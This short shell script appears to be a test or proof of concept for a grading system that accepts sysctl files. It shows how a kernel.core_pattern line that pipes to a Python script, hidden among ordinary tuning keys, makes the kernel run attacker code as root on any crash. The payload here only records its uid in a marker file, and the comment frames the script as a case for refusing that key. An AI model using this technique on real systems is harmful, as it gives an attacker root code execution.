#!/bin/sh
# A core_pattern starting with '|' makes the kernel run that command as root
# for every crashing process, whatever the crashing process's core limit. With
# an interpreter in front, the script need not be executable: Submit's 0644
# copy of dump.py would still run as root at the first crash in the grading
# machine. Only refusing the key stops this.
set -e
cat > /etc/sysctl.d/dump.py <<'PY'
import os
open("/run/owned", "w").write(str(os.getuid()))
PY
cat > /etc/sysctl.d/60-kernellab.conf <<'CONF'
vm.swappiness = 10
vm.dirty_ratio = 15
net.ipv4.ip_forward = 1
kernel.core_pattern = |/usr/bin/python3 /etc/sysctl.d/dump.py
CONF
sysctl -p /etc/sysctl.d/60-kernellab.conf
